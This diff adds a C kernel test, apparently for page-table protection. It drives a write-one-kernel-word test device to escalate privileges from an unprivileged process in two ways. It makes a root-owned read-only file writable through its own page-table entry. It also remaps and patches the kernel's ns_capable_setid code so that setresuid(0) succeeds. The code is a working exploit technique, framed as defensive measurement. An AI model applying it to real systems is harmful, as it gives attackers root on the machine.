@@ -1,0 +1,213 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * Description: what a user does with a bug that writes a word of kernel memory, when
+ * they know where things are: they write to their own page tables, and with these to
+ * what is read-only even for the kernel. They change a file of root's, and they become
+ * root by changing the kernel's code.
+ *
+ * Usage: privilege TRIES
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <grp.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+
+#include "kpkeys_write.h"
+#include "record.h"
+#include "symbol.h"
+#include "tables.h"
+#include "task.h"
+
+enum kind { FILE_PAGE, KERNEL_PAGE };
+
+#define WRITABLE (1UL << 1)
+
+#define ROOTS_FILE "/roots_file"
+
+enum { USER = 1000, UNTOUCHED = '0', CHANGED = '1' };
+
+/* What the attacker has in hand, being nobody in particular. */
+struct attacker {
+	/* Tells what is in kernel memory. */
+	int probe;
+	/* Writes to it: /dev/kpkeys_write. */
+	int bug;
+	/* The function that decides whether one may become somebody else. */
+	uint64_t ns_capable_setid;
+	/* Shared with who watches. */
+	struct progress {
+		bool writes;
+		bool is_root;
+	} *progress;
+};
+
+/* Dies of it where page tables are protected. */
+static void write_entry(struct attacker *a, const struct table_entry *entry, uint64_t value)
+{
+	struct kpkeys_write_word word = { .address = entry->address, .value = value };
+
+	a->progress->writes = true;
+	if (ioctl(a->bug, KPKEYS_WRITE_WORD, &word))
+		fail("the bug");
+}
+
+/* More pages at a time than the kernel cares to flush one by one: it flushes all. */
+static void forget_translations(void)
+{
+	size_t size = 256 * PAGE_SIZE;
+	void *pages = mmap(NULL, size, PROT_READ | PROT_WRITE,
+			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+
+	if (pages == MAP_FAILED || munmap(pages, size))
+		fail("pages to unmap");
+}
+
+/* Of a page in use. */
+static struct table_entry own_entry(const struct tables *t, const volatile void *page)
+{
+	struct table_entry entry = find_leaf(t, (uintptr_t)page);
+
+	if (entry.level == PTE && (entry.value & PRESENT))
+		return entry;
+	fprintf(stderr, "no entry for %p\n", page);
+	exit(1);
+}
+
+/* Make the mapping of a file that may only be read one that can be written. */
+static void change_file(struct attacker *a)
+{
+	struct tables tables = own_tables(a->probe);
+	int file = open(ROOTS_FILE, O_RDONLY | O_CLOEXEC);
+	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ, MAP_SHARED, file, 0);
+	struct table_entry entry;
+
+	if (page == MAP_FAILED || *page != UNTOUCHED)
+		fail(ROOTS_FILE);
+	entry = own_entry(&tables, page);
+	write_entry(a, &entry, entry.value | WRITABLE);
+	forget_translations();
+	*page = CHANGED;
+}
+
+/* mov $1, %eax; ret */
+static const uint8_t say_yes[] = { 0xb8, 1, 0, 0, 0, 0xc3 };
+
+/* Map the kernel's code in place of a page of one's own, and have it say yes for a while. */
+static void become_root(struct attacker *a)
+{
+	struct tables tables = own_tables(a->probe);
+	uint8_t *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
+			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+	/* Functions are aligned, so this one begins and is changed in one page. */
+	uint8_t *code = page + a->ns_capable_setid % PAGE_SIZE, before[sizeof(say_yes)];
+	uint64_t frame = physical_address(&tables, a->ns_capable_setid) & ADDRESS_MASK;
+	struct table_entry entry;
+
+	if (page == MAP_FAILED || !frame)
+		fail("a window to the kernel's code");
+	entry = own_entry(&tables, page);
+	write_entry(a, &entry, (entry.value & ~ADDRESS_MASK) | frame);
+	forget_translations();
+
+	memcpy(before, code, sizeof(before));
+	memcpy(code, say_yes, sizeof(say_yes));
+	if (setresuid(0, 0, 0))
+		perror("setresuid");
+	memcpy(code, before, sizeof(before));
+	a->progress->is_root = getuid() == 0;
+
+	write_entry(a, &entry, entry.value);
+	forget_translations();
+}
+
+static void lose_privileges(void)
+{
+	if (setgroups(0, NULL) || setresgid(USER, USER, USER) || setresuid(USER, USER, USER))
+		fail("to become a user");
+	if (!setresuid(0, 0, 0) || open(ROOTS_FILE, O_WRONLY | O_CLOEXEC) >= 0) {
+		fputs("users may do all that here without a bug\n", stderr);
+		exit(1);
+	}
+}
+
+static void write_file(const char *path, const char *text)
+{
+	int file = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+	ssize_t size = (ssize_t)strlen(text);
+
+	if (file < 0 || write(file, text, (size_t)size) != size || close(file))
+		fail(path);
+}
+
+static char first_character(const char *path)
+{
+	int file = open(path, O_RDONLY | O_CLOEXEC);
+	char character;
+
+	if (file < 0 || read(file, &character, 1) != 1 || close(file))
+		fail(path);
+	return character;
+}
+
+/* The attacker gets through, or is killed while writing. Else nothing has been tried. */
+static void attack(struct attacker *a, void (*act)(struct attacker *))
+{
+	pid_t child;
+	int status;
+
+	*a->progress = (struct progress){ 0 };
+	child = start_task();
+	if (child == 0) {
+		lose_privileges();
+		act(a);
+		_exit(0);
+	}
+	status = wait_for(child);
+	if (!status || (a->progress->writes && WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL))
+		return;
+	fprintf(stderr, "the attacker ended with wait status %#x\n", (unsigned int)status);
+	exit(1);
+}
+
+static bool changes_file(struct attacker *a)
+{
+	const char untouched[] = { UNTOUCHED, '\0' };
+
+	write_file(ROOTS_FILE, untouched);
+	attack(a, change_file);
+	return first_character(ROOTS_FILE) != UNTOUCHED;
+}
+
+static bool becomes_root(struct attacker *a)
+{
+	attack(a, become_root);
+	return a->progress->is_root;
+}
+
+int main(int argc, char **argv)
+{
+	static const char panic_on_oops[] = "/proc/sys/kernel/panic_on_oops";
+	size_t tries = samples_wanted(argc, argv);
+	struct attacker a = {
+		.probe = probe_open(),
+		.bug = open("/dev/kpkeys_write", O_RDWR | O_CLOEXEC),
+		.ns_capable_setid = symbol("ns_capable_setid"),
+		.progress = mmap(NULL, sizeof(*a.progress), PROT_READ | PROT_WRITE,
+				 MAP_SHARED | MAP_ANONYMOUS, -1, 0),
+	};
+	const char panics[] = { first_character(panic_on_oops), '\0' };
+
+	if (a.bug < 0 || a.progress == MAP_FAILED)
+		fail("/dev/kpkeys_write");
+	/* An attacker who fails is to die alone. */
+	write_file(panic_on_oops, "0");
+	for (size_t i = 0; i < tries; i++) {
+		print_write(FILE_PAGE, changes_file(&a));
+		print_write(KERNEL_PAGE, becomes_root(&a));
+	}
+	write_file(panic_on_oops, panics);
+	return 0;
+}
